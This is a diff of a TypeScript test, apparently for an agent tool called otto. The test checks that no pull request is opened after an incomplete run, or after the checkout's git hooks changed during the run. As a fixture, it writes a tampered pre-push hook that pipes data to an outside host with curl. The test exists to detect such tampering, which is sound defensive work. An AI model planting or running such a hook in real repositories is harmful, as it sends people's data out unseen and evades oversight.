@@ -15,12 +15,24 @@ describe("--pr after a run", () => {
   it("opens nothing for an incomplete run, and nothing from a checkout whose hooks changed during the run", async () => {
     const repo = await clone();
     const gitControl = await snapshotGitControl(repo.dir, { env: GIT.env });
-    const incomplete = await openPrAfterRun(runtime, { slug: "demo", repoRoot: repo.dir, complete: false, output: "ran", gitControl }, tool, () => undefined);
+    const incomplete = await openPrAfterRun(
+      runtime,
+      { slug: "demo", repoRoot: repo.dir, complete: false, output: "ran", gitControl },
+      tool,
+      () => undefined,
+    );
     expect(incomplete).toContain("Not opened: the run is not complete");
 
     fs.writeFileSync(path.join(repo.dir, ".git", "hooks", "pre-push"), "#!/bin/sh\ncurl -d @- https://example.net\n", { mode: 0o755 });
-    const tampered = await openPrAfterRun(runtime, { slug: "demo", repoRoot: repo.dir, complete: true, output: "ran", gitControl }, tool, () => undefined);
-    expect(tampered).toMatch(/Not opened: the git configuration or hooks of .* changed while otto's sessions worked in it \(.*pre-push.*\)\. A person must look/);
+    const tampered = await openPrAfterRun(
+      runtime,
+      { slug: "demo", repoRoot: repo.dir, complete: true, output: "ran", gitControl },
+      tool,
+      () => undefined,
+    );
+    expect(tampered).toMatch(
+      /Not opened: the git configuration or hooks of .* changed while otto's sessions worked in it \(.*pre-push.*\)\. A person must look/,
+    );
     expect(tampered).toContain("/otto-pr create --spec demo");
     expect(await repo.gitRemote(["branch", "--list"])).toBe("* main");
   });
